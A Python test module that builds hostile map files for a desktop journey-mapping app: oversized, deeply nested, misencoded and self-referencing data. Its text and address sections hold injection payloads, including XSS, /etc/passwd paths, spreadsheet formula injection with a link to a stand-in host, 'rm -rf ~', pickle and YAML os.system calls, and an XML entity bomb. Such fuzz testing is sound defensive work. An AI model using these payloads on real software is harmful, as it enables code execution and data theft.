"""Hostile maps: broken, enormous and misleading `.cjm` files."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable, Iterator
from typing import Any

from cjm_desktop.model.journey import TABLES
from tests.reliability.hostile.case import Case, Door, document, of_bytes, repeated
from tests.reliability.hostile.pictures import PICTURES
from tests.reliability.hostile.places import PLACES

_HEAD = b'{"format":"cjm","version":"1.1",'
_MEGABYTE = 1_000_000

STAGES: list[dict[str, Any]] = [
    {"id": "s1", "name": "Need", "sub_stages": [{"id": "u1", "name": "First"}]},
    {"id": "s2", "name": "Use"},
]
LANES: list[dict[str, Any]] = [
    {"id": "l1", "label": "Actions"},
    {"id": "e1", "kind": "emotion", "role": "emotions", "label": "Emotions"},
    {"id": "m1", "kind": "metric", "role": "metrics", "label": "Metrics"},
]
_CARDS: list[dict[str, Any]] = [
    {"id": "c1", "lane": "l1", "stage": "s1", "text": "waits"},
    {"id": "c2", "lane": "l1", "stage": "s2", "text": "goes"},
]


def small(**fields: Any) -> bytes:
    """A sound map of two stages and three lanes with these properties instead of its own."""
    return document(**{"stages": STAGES, "lanes": LANES, "cards": _CARDS, **fields})


def full(word: Callable[[str], str]) -> bytes:
    """A map with every kind of record, in which every text is `word` of its field's name."""
    return document(
        **{name: word(name) for name in ("title", "objective", "scenario", "scope", "expectations", "owner", "note")},
        date=word("date"),
        revision=word("revision"),
        sources=[{"id": "q1", "title": word("title"), "url": word("url")[:2000], "note": word("note")}],
        personas=[
            {
                "id": "p1",
                "primary": True,
                **{name: word(name) for name in ("name", "archetype", "demographics", "quote", "note")},
                **{
                    name: [word(name), word(name)]
                    for name in ("needs", "wants", "motives", "behaviours", "goals", "frustrations", "channels")
                },
            },
            {"id": "p2", "name": word("name")},
        ],
        channels=[{"id": "h1", "name": word("name"), "icon": word("icon")}],
        stages=[
            {
                "id": id_,
                "sub_stages": [{"id": f"u{id_}", "name": word("name")}],
                **{
                    name: word(name) for name in ("name", "start", "duration", "customer_goal", "business_goal", "note")
                },
            }
            for id_ in ("s1", "s2")
        ],
        lanes=[
            {"id": id_, "kind": kind, **{name: word(name) for name in ("role", "label", "hint", "accent", "note")}}
            for id_, kind in (("l1", "cards"), ("t1", "touchpoints"), ("e1", "emotion"), ("m1", "metric"))
        ],
        lines=[{"id": "i1", "kind": "visibility", "label": word("label"), "before": [word("role")]}],
        cards=[
            {
                "id": id_,
                "lane": lane,
                "stage": "s1",
                "channel": "h1" if lane == "t1" else None,
                "persona": "p2",
                "tags": [word("tags")],
                "evidence": {"status": "observed", "source": word("source")},
                "links": [{"url": "https://example.org/", "title": word("title")}],
                **{name: word(name) for name in ("text", "owner", "duration", "accent", "note")},
            }
            for id_, lane in (("c1", "l1"), ("c2", "t1"))
        ],
        curves=[{"id": "v1", "lane": "e1", "label": word("label")}],
        points=[
            {"id": "o1", "curve": "v1", "stage": "s1", "value": 1, "label": word("label")},
            {"id": "o2", "curve": "v1", "stage": "s2", "value": -1, "label": word("label")},
        ],
        metrics=[
            {"id": "n1", "lane": "m1", "stage": "s1", "value": 4, "label": word("label"), "unit": word("unit")},
        ],
        connectors=[{"id": "k1", "source": "c1", "target": "c2", "label": word("label")}],
        views=[{"id": "w1", "name": word("name"), "roles": [word("role")], "owners": [word("owner")]}],
    )


def cases() -> Iterator[Case]:
    """All of them."""
    yield from _numbers()
    yield from _nested_and_long()
    yield from _ids_and_references()
    yield from _other_kinds()
    yield from _heads()
    yield from _texts()
    yield from _addresses()
    yield from _pictures()
    yield from PLACES


def _open(
    name: str,
    content: Callable[[], bytes] | bytes,
    refused: bool | None = True,
    says: str = "",
    *,
    drawn: bool = True,
    file: str = "hostile.cjm",
) -> Case:
    return of_bytes(name, Door.OPEN, file, content, refused, says, drawn=drawn)


def _numbers() -> Iterator[Case]:
    metric = b'"stages":[{"id":"s"}],"lanes":[{"id":"m","kind":"metric"}],"metrics":[{"id":"n","lane":"m","stage":"s","value":%s}]}'
    for word, says in (
        ("NaN", "not a number that a map can hold"),
        ("Infinity", "not a number that a map can hold"),
        ("-Infinity", "not a number that a map can hold"),
        ("1e400", "is too large"),
        ("-1e400", "is too large"),
        ("1e308", "must not be more than"),
        ("1" + "0" * 5000, "is too large"),
        ("0x10", "comma"),
        ("01", "comma"),
        ("true1", "comma"),
        ("1_000", "comma"),
    ):
        yield _open(f"number-{word[:12]}", _HEAD + metric % word.encode(), True, says)
    yield _open("number-4,900-digits-of-a-fraction", _HEAD + metric % (b"0." + b"9" * 4900), False)
    yield _open("number-of-49-MB", lambda: _HEAD + b'"x":' + b"9" * (49 * _MEGABYTE) + b"}", True, "is too large")
    yield _open(
        "fraction-of-49-MB", lambda: _HEAD + b'"x":0.' + b"9" * (49 * _MEGABYTE) + b"}", True, "beside its pictures"
    )
    yield _open("exponent-long", _HEAD + metric % (b"1e-" + b"9" * 5000), False)
    for field, value in (
        ("votes", 10**18),
        ("votes", -1),
        ("span", 0),
        ("span", 10**9),
        ("span", 1.5),
        ("votes", "7x"),
    ):
        yield _open(f"card-{field}-{value}", small(cards=[{"id": "c", field: value}]), True, field)
    for value in (0, 1e9, -5):
        yield _open(f"stage-width-{value:g}", small(stages=[{"id": "s", "width": value}]), True, "width")


def _nested_and_long() -> Iterator[Case]:
    deep = "nest too deeply"
    yield _open("nested-lists", b"[" * 100_000, True, deep)
    yield _open("nested-objects", b'{"a":' * 100_000, True, deep)
    yield _open("nested-and-closed", b"[" * 3_000 + b"]" * 3_000, True, deep)
    yield _open("nested-unknown-field", _HEAD + b'"x":' + b"[" * 200 + b"]" * 200 + b"}", True, deep)
    yield _open("nested-in-a-card", small(cards=[{"id": "c", "x": json.loads("[" * 90 + "]" * 90)}]), True, deep)
    yield _open("nested-for-49-MB", lambda: b"[" * (49 * _MEGABYTE), True, "brackets")
    yield _open(
        "60-MB-of-text", lambda: repeated(_HEAD + b'"note":"', b"a", b'"}', 60 * _MEGABYTE), True, "larger than 50 MB"
    )
    yield _open(
        "49-MB-of-text", lambda: repeated(_HEAD + b'"note":"', b"a", b'"}', 49 * _MEGABYTE), True, "beside its pictures"
    )
    yield _open(
        "49-MB-of-escapes",
        lambda: repeated(_HEAD + b'"note":"', b"\\u0041", b'"}', 49 * _MEGABYTE),
        True,
        "beside its pictures",
    )
    yield _open("49-MB-of-spaces", lambda: repeated(_HEAD, b" ", b"}", 49 * _MEGABYTE), True, "column")
    yield _open("49-MB-of-lines", lambda: repeated(_HEAD, b"\n", b"", 49 * _MEGABYTE), True, "line")
    yield _open(
        "49-MB-unterminated", lambda: repeated(_HEAD + b'"note":"', b"a", b"", 49 * _MEGABYTE), True, "quotation mark"
    )
    yield _open(
        "49-MB-of-small-values", lambda: repeated(_HEAD + b'"x":[', b"1,", b"1]}", 49 * _MEGABYTE), True, "commas"
    )
    yield _open(
        "49-MB-of-small-objects", lambda: repeated(_HEAD + b'"x":[', b"{},", b"{}]}", 49 * _MEGABYTE), True, "commas"
    )
    yield _open("49-MB-of-merge-marks", lambda: repeated(b"", b"<<<<<<<\n", b"", 49 * _MEGABYTE), True, "merge")
    yield _open("49-MB-that-look-sound", lambda: _large(49 * _MEGABYTE), True, "beside its pictures")
    yield _open("8-MB-of-long-cards", lambda: _large(8 * _MEGABYTE), False, drawn=False)
    yield _open("1,000,000-commas-in-a-list", lambda: _HEAD + b'"x":[' + b"0," * 990_000 + b"0]}", False, drawn=False)
    yield _open("60,000-cards", lambda: _many("cards", 60_000), True, "records")
    yield _open("50,000-cards-without-a-place", lambda: _many("cards", 49_000), False, drawn=False)
    yield _open("50,000-wrong-cards", lambda: _many("cards", 49_000, text=7, votes="x", span=0), True, "c0")
    yield _open(
        "60,000-sub-stages", lambda: small(stages=[{"id": "s", "sub_stages": _records(60_000)}]), True, "records"
    )
    yield _open("2,000-sub-stages", lambda: small(stages=[{"id": "s", "sub_stages": _records(2_000)}]), False)
    yield _open(
        "1,000-stages-and-lanes", lambda: document(stages=_records(1_000), lanes=_records(1_000)), True, "cells"
    )
    yield _open("100,000-tags", lambda: small(cards=[{**_CARDS[0], "tags": ["tag"] * 100_000}]), False)
    yield _open(
        "5,000-links", lambda: small(cards=[{**_CARDS[0], "links": [{"url": "https://a.example/"}] * 5_000}]), False
    )
    yield _open("20,000-values-in-a-series", lambda: _series(20_000), False)
    yield _open("200-labels-of-one-curve", lambda: _crowd(200), False)
    yield _open("1,000-metrics-in-a-cell", lambda: _measured(1_000), False)
    yield _open("2,000-arrows", lambda: _arrows(2_000), False)
    yield _open("300-curves", lambda: _curves(300), False)
    yield _open("300-spans-of-1,000", lambda: _spans(300), False)


def _large(size: int) -> bytes:
    text = "waits at the door " * 1_000
    cards = [{"id": f"c{n}", "lane": "l1", "stage": "s1", "text": text} for n in range(size // len(text))]
    return small(cards=cards)


def _records(count: int, start: str = "c", **fields: Any) -> list[dict[str, Any]]:
    return [{"id": f"{start}{n}", **fields} for n in range(count)]


def _many(table: str, count: int, **fields: Any) -> bytes:
    return document(**{table: _records(count, **fields)})


def _series(count: int) -> bytes:
    metric = {"id": "n1", "lane": "m1", "stage": "s1", "value": 1, "series": list(range(count))}
    lanes = [{"id": "m1", "kind": "metric", "display": "line"}]
    return document(stages=STAGES, lanes=lanes, metrics=[metric])


def _crowd(count: int) -> bytes:
    points = [
        {
            "id": f"p{n}",
            "curve": "v",
            "stage": f"s{1 + n % 2}",
            "position": n % 97 / 97,
            "value": n % 5 - 2,
            "label": "word",
        }
        for n in range(count)
    ]
    return document(stages=STAGES, lanes=LANES, curves=[{"id": "v", "lane": "e1"}], points=points)


def _measured(count: int) -> bytes:
    return document(stages=STAGES, lanes=LANES, metrics=_records(count, lane="m1", stage="s1", value=7))


def _arrows(count: int) -> bytes:
    cards = [{"id": f"c{n}", "lane": "l1", "stage": f"s{1 + n % 2}", "text": "x"} for n in range(100)]
    arrows = [
        {"id": f"k{n}", "source": f"c{n % 100}", "target": f"c{(n * 7 + 1 + n // 100) % 100}"} for n in range(count)
    ]
    return document(stages=STAGES, lanes=LANES, cards=cards, connectors=arrows)


def _curves(count: int) -> bytes:
    curves = [{"id": f"v{n}", "lane": "e1", "label": f"curve {n}"} for n in range(count)]
    points = [{"id": f"p{n}", "curve": f"v{n}", "stage": "s1", "value": 1} for n in range(count)]
    return document(stages=STAGES, lanes=LANES, curves=curves, points=points)


def _spans(count: int) -> bytes:
    cards = [{"id": f"c{n}", "lane": "l1", "stage": "t0", "span": 1_000, "text": "x"} for n in range(count)]
    return document(stages=_records(900, "t"), lanes=LANES[:1], cards=cards)


def _ids_and_references() -> Iterator[Case]:
    yield _open("key-twice", b'{"format":"cjm","version":"1.1","title":"a","title":"b"}', True, "stands twice")
    yield _open(
        "key-twice-in-a-card",
        _HEAD + b'"cards":[{"id":"c1","text":"a","text":"b"}]}',
        True,
        "in “c1” the property “text”",
    )
    yield _open("id-twice", small(cards=[_CARDS[0], _CARDS[0]]), True, "occurs twice")
    yield _open("id-in-two-tables", small(personas=[{"id": "s1"}, {"id": "c1"}]), False)
    yield _open(
        "ids-alike-for-70-letters",
        lambda: document(cards=_records(20_000, "p" * 70), stages=_records(20_000, "p" * 70)),
        False,
        drawn=False,
    )
    yield _open("sub-stage-twice", lambda: document(stages=[{"id": "s", "sub_stages": [{"id": "u"}] * 2_000}]), False)
    for field in ("lane", "stage", "sub_stage", "persona", "picture", "channel"):
        yield _open(f"dangling-{field}", small(cards=[{**_CARDS[0], field: "nowhere"}]), False)
        yield _open(f"{field}-is-the-card-itself", small(cards=[{**_CARDS[0], field: "c1"}]), False)
    yield _open("sub-stage-of-another-stage", small(cards=[{**_CARDS[0], "stage": "s2", "sub_stage": "u1"}]), False)
    yield _open("lane-is-a-stage", small(cards=[{**_CARDS[0], "lane": "s1", "stage": "l1"}]), False)
    yield _open("arrow-to-itself", small(connectors=[{"id": "k", "source": "c1", "target": "c1"}]), False)
    yield _open("arrow-to-nowhere", small(connectors=[{"id": "k", "source": "c1", "target": "x"}]), False)
    yield _open("arrow-to-an-arrow", small(connectors=[{"id": "k", "source": "k", "target": "k"}]), False)
    circle = [{"id": "k1", "source": "c1", "target": "c2"}, {"id": "k2", "source": "c2", "target": "c1"}]
    yield _open("arrows-in-a-circle", small(connectors=circle), False)
    yield _open("curve-without-lane", small(curves=[{"id": "v", "lane": "x", "persona": "y"}]), False)
    yield _open("curve-in-a-lane-of-cards", small(curves=[{"id": "v", "lane": "l1"}]), False)
    yield _open("point-without-curve", small(points=[{"id": "o", "curve": "x", "stage": "y", "value": 2}]), False)
    yield _open("point-of-itself", small(points=[{"id": "o", "curve": "o", "stage": "o", "value": 2}]), False)
    yield _open("metric-without-lane", small(metrics=[{"id": "n", "lane": "x", "stage": "y"}]), False)
    yield _open("persona-portrait-is-the-persona", small(personas=[{"id": "p", "portrait": "p"}]), False)
    view = {
        "id": "w",
        "hidden_lanes": ["l1", "x"],
        "hidden_stages": ["s1", "s2", "w"],
        "personas": ["w"],
        "roles": ["x"],
    }
    yield _open("view-that-hides-all", small(views=[view]), False)
    yield _open("line-before-itself", small(lines=[{"id": "i", "kind": "visibility", "before": ["i", ""]}]), False)
    for n, id_ in enumerate(("../../x", "", "a" * 81, "a b", "<b>", "a\n", "a\u0000", "ä", None, 7, ["a"], {"a": 1})):
        yield _open(f"id-{n}", small(cards=[{"id": id_}]), True, "hostile.cjm")
    yield _open("id-CON", small(cards=[{"id": "CON"}, {"id": ".."}, {"id": "-rf"}, {"id": "__proto__"}]), False)


def _other_kinds() -> Iterator[Case]:
    for name, content, says in (
        ("empty", b"", "is empty"),
        ("mark-only", b"\xef\xbb\xbf", "is empty"),
        ("spaces-only", b" \n\t ", "is empty"),
        ("utf-16", document().decode().encode("utf-16"), "UTF-16"),
        ("utf-16-without-mark", document().decode().encode("utf-16-le"), "hostile.cjm"),
        ("utf-32", document().decode().encode("utf-32"), "UTF-16"),
        ("latin-1", b'{"format":"cjm","version":"1.1",\n"title":"caf\xe9"}', "line 2 is not UTF-8"),
        ("gzip", gzip.compress(document()), "a compressed file"),
        ("zip", b"PK\x03\x04" + b"\0" * 60, "a ZIP or office file"),
        ("program", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "a program"),
        ("windows-program", b"MZ\x90\x00" + b"\0" * 60, "a program"),
        ("pdf-by-another-name", b"%PDF-1.7\n%%EOF", "a PDF document"),
        ("png-by-another-name", b"\x89PNG\r\n\x1a\n", "a PNG picture"),
        ("gif", b"GIF89a", "a GIF picture"),
        ("web-page", b"<!doctype html><script>alert(1)</script>", "a web page"),
        ("xml", b'<?xml version="1.0"?><cjm/>', "a value is expected"),
        ("billion-laughs", _LAUGHS, "a value is expected"),
        ("zeros", b"\0" * 4_096, "hostile.cjm"),
        ("python", b"__import__('os').system('true')", "a value is expected"),
        ("pickle", b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.", "not UTF-8"),
        ("yaml", b"!!python/object/apply:os.system ['true']", "a value is expected"),
        ("comments", b'{"format":"cjm", /* hi */ "version":"1.1"}', "property name"),
        ("single-quotes", b"{'format':'cjm'}", "property name"),
        ("comma-too-many", b'{"format":"cjm","version":"1.1",}', "line 1"),
        ("behind-its-end", document() + b"\0{}", "after the end"),
        ("two-documents", document() + document(), "after the end"),
        ("half", document(note="x" * 900)[:400], "closing quotation mark"),
        (
            "merge-not-finished",
            document().replace(b', "title"', b',\n<<<<<<< HEAD\n"title"'),
            "line 2 is the mark of a merge",
        ),
        ("raw-control-character", b'{"format":"cjm","version":"1.1","title":"a\x00b"}', "control character"),
        ("raw-escape-character", b'{"format":"cjm","version":"1.1","title":"a\x1b[2Jb"}', "control character"),
        ("overlong-utf-8", b'{"format":"cjm","title":"\xc0\xae\xc0\xae/"}', "not UTF-8"),
        ("surrogate-as-bytes", b'{"format":"cjm","title":"\xed\xa0\x80"}', "not UTF-8"),
    ):
        yield _open(name, content, True, says)
    half = "half of a character"
    yield _open("surrogate-in-a-text", small(title="x\ud800y"), True, half)
    yield _open("surrogate-in-a-card", small(cards=[{**_CARDS[0], "text": "\udfff"}]), True, half)
    yield _open("surrogate-in-an-address", small(sources=[{"id": "q", "url": "\ud83d"}]), True, half)
    yield _open("surrogate-in-an-unknown-field", small(weather="\ud83d"), True, half)
    yield _open("surrogate-in-an-unknown-name", small(**{"\ud83d": 1}), True, half)
    yield _open("surrogates-the-wrong-way-round", small(title="\ude00\ud83d"), True, half)
    yield _open("mark-and-map", b"\xef\xbb\xbf" + small(), False)
    yield _open("lines-of-windows", small().replace(b", ", b",\r\n"), False)


_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (ord("b") + n, b"&%c;" % (ord("a") + n) * 10) for n in range(9))
    + b"]><svg>&j;</svg>"
)


def _heads() -> Iterator[Case]:
    for n, value in enumerate(
        (b"[]", b'"cjm"', b"7", b"null", b"true", b"{}", b'{"format":["cjm"]}', b'{"format":null}')
    ):
        yield _open(f"head-{n}", value, True, "is not a customer journey map")
    for version in (
        "",
        "1",
        "1.",
        ".1",
        "1.x",
        "-1.0",
        "1.0\n",
        "１.０",
        "12345678901.1",
        "1.1.1",
        "1e0.1",
        None,
        1.1,
        ["1.1"],
        {},
    ):
        yield _open(f"version-{str(version)[:9].strip()}", document(version=version), True, "format version")
    yield _open("version-0.9", document(version="0.9"), True, "cannot read any more")
    yield _open("version-of-next-year", small(version="9999.0", stages=STAGES), False)
    yield _open("version-newer-with-wrong-types", small(version="1.9", cards=7), True, "list")
    yield _open("version-newer-with-a-wrong-record", small(version="1.9", cards=[{"id": 7}]), True, "newer version")
    for table in TABLES:
        for n, value in enumerate(("text", {"a": {"id": "a"}}, None, 7)):
            yield _open(f"{table}-as-{n}", small(**{table: value}), True, "in square brackets")
    yield _open("kind-unknown", small(kind="<script>"), True, "is not one of")
    yield _open("language-unknown", small(language="../../etc"), True, "hostile.cjm")
    yield _open("language-long", small(language="a" * 36), True, "longer than 35")


def _texts() -> Iterator[Case]:
    """Texts that mean something elsewhere, in every field that holds a text."""
    words = {
        "pictures-of-this-machine": '<img src="file:///etc/passwd"><b>{}</b>',
        "scripts": "<script>alert('{}')</script><svg onload=alert(1)>",
        "links-in-markup": '<a href="javascript:alert(1)">{}</a><a href="file:///etc/passwd">x</a>',
        "styles": "<style>@import url(file:///etc/passwd)</style><font face='{}'>",
        "markup-of-paragraphs": '<para><img src="/etc/passwd"/><link href="file:///etc/hosts">{}</link></para>',
        "entities": "&lt;b&gt;&#60;img src=x&#62;&{};&#0;&#xffffffff;",
        "turned-round": "\u202e{}\u2066fdp.exe\u200f",
        "turned-and-never-back": "\u202b\u202d\u2067" * 60 + "{}",
        "control-characters": "\x00\x01\x07\x08\x0b\x0c\x1b]0;{}\x07\x1b[2J\x7f\x85",
        "line-separators": "a\u2028b\u2029{}\r\nc\rd\ve\ff",
        "no-characters": "\ufffe\uffff\U0001fffe\U0010ffff{}\ue000\ufdd0",
        "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad\U000e0041{}\U000e007f",
        "paths": "../../../etc/passwd/{}",
        "devices": "CON",
        "nul-in-a-path": "/etc/passwd\x00{}.png",
        "unc-paths": "\\\\server\\share\\{}",
        "formulas": "=cmd|' /C calc'!A0{}",
        "formulas-with-plus": "+1+cmd|' /C calc'!A0{}",
        "formulas-with-minus": "-2+3+cmd|'{}'!A0",
        "formulas-with-at": "@SUM(1+1)*cmd|'{}'!A0",
        "formulas-behind-a-tab": '\t=HYPERLINK("http://a.example/?"&A1){}',
        "formulas-behind-a-break": "\r\n=1+1{}",
        "percent-signs": "%s%n%x{{0}}{}$(id)`id`${{7*7}}",
        "postscript-of-a-pdf": ") Tj ET Q (x) /JS (app.alert(1)) {} \\",
        "end-of-an-svg": "]]></text></svg><script>{}</script><!--",
        "shell": "; rm -rf ~ # {} && true | true",
        "ampersands": "&Save && &{}",
        "brackets-of-a-title": "[*]{}[*]",
    }
    for name, word in words.items():
        # Fields that hold no more than some characters take the beginning.
        yield _open(f"text-{name}", full(lambda field, word=word: word.format(field)), False)  # type: ignore[misc]
    yield _open("text-marks-on-one-letter", full(lambda _: "a" + "\u0301" * 1_900), False)
    yield _open("text-20,000-marks", small(cards=[{**_CARDS[0], "text": "a" + "\u0301\u0489" * 9_900}]), False)
    for name, text in {
        "lines": "a\n" * 10_000,
        "words": "a " * 10_000,
        "one-word": "W" * 20_000,
        "both-directions": "aא" * 10_000,
        "overrides": "\u202e\u2066" * 10_000,
        "joined-emoji": "👩\u200d" * 9_000,
        "flags": "🇻🇳" * 9_000,
        "thai": "ก" * 20_000,
        "tibetan": "ཀྵྨྲྱ" * 3_000,
        "tabs": "\t" * 20_000,
        "hyphens": "a\u00ad" * 10_000,
        "variation": "a\ufe0f" * 10_000,
    }.items():
        yield _open(f"text-20,000-{name}", small(cards=[{**_CARDS[0], "text": text}]), False)
    yield _open("text-too-long", small(cards=[{**_CARDS[0], "text": "a" * 20_001}]), True, "longer than 20,000")
    yield _open("title-too-long", small(title="a" * 2_001), True, "longer than 2,000")
    yield _open("title-very-long", small(title="W" * 2_000, owner="W" * 2_000), False)
    for name, file in {
        "turned-round": "invoice\u202emjc.exe.cjm",
        "line-break": "a\nb.cjm",
        "escape": "\x1b[2J.cjm",
        "markup": "<img src=x>.cjm",
        "formula": "=cmd|calc.cjm",
        "option": "-rf.cjm",
        "quote": "a'b\"c$(id)`.cjm",
        "percent": "%s%n.cjm",
        "very-long": "x" * 250 + ".cjm",
        "no-utf-8": "caf\udce9.cjm",
    }.items():
        yield _open(f"file-named-{name}", b"{", True, "property name", file=file)
        yield _open(f"sound-file-named-{name}", small(), False, file=file)


def _addresses() -> Iterator[Case]:
    for n, url in enumerate(
        (
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "file:///etc/passwd",
            "data:text/html,<script>alert(1)</script>",
            "smb://server/share",
            "\\\\server\\share",
            "vbscript:x",
            "ftp://a.example",
            "//a.example/x",
            " https://a.example",
            "https://a.example/ b",
            "https://a.example/\nb",
            "java\tscript:alert(1)",
            "\u0000https://a.example",
            "https:",
            "http://",
            "mailto:",
            "",
            7,
        )
    ):
        yield _open(f"address-{n}", small(cards=[{**_CARDS[0], "links": [{"url": url}]}]), True, "c1")
    for n, url in enumerate(
        (
            "https://\u202emoc.elpmaxe",
            "http://user:pass@аpple.com/",
            "https://[::1",
            "https://a.example/%00%0d%0aSet-Cookie",
            "mailto:a@example.org?attach=/etc/passwd",
            "http://2130706433/",
            "https://a.example/" + "a" * 1_900,
        )
    ):
        yield _open(f"odd-address-{n}", small(cards=[{**_CARDS[0], "links": [{"url": url}]}]), False)
    for n, url in enumerate(("javascript:alert(1)", "file:///etc/passwd", "\u202e")):
        yield _open(f"source-address-{n}", small(sources=[{"id": "q", "title": "x", "url": url}]), False)


def _pictures() -> Iterator[Case]:
    """Every hostile picture inside a map, as a card's and as a portrait."""
    for name, (make, mime) in PICTURES.items():

        def content(make: Callable[[], bytes] = make, mime: str = mime) -> bytes:
            data = base64.b64encode(make()).decode()
            record = {"id": "x1", "mime": mime, "width": 10, "height": 10, "data": data, "alt": "x"}
            return small(
                pictures=[record],
                personas=[{"id": "p", "portrait": "x1"}],
                cards=[{**_CARDS[0], "picture": "x1"}],
                lanes=[{"id": "l1", "kind": "pictures"}],
            )

        yield _open(f"picture-{name}", content, False)
    for n, (field, value) in enumerate(
        (
            ("mime", "image/svg+xml"),
            ("mime", "image/png\n"),
            ("mime", "text/html"),
            ("width", 0),
            ("width", 10**6),
            ("height", -1),
            ("height", 1.5),
            ("data", 7),
            ("data", None),
            ("id", "../x"),
        )
    ):
        record = {"id": "x1", "mime": "image/png", "width": 10, "height": 10, "data": "", field: value}
        yield _open(f"picture-record-{n}", small(pictures=[record]), True, "picture")
    for n, data in enumerate(("", "====", "a", "ab\ncd", "é", "<svg/>", "A" * 1_000_001)):
        record = {"id": "x1", "mime": "image/png", "width": 10, "height": 10, "data": data}
        yield _open(f"picture-data-{n}", small(pictures=[record]), False)
    yield _open("picture-data-of-45-MB", lambda: _picture_of_zeros(45 * _MEGABYTE), False)


def _picture_of_zeros(size: int) -> bytes:
    return small(pictures=[{"id": "x1", "mime": "image/png", "width": 1, "height": 1, "data": "A" * size}])
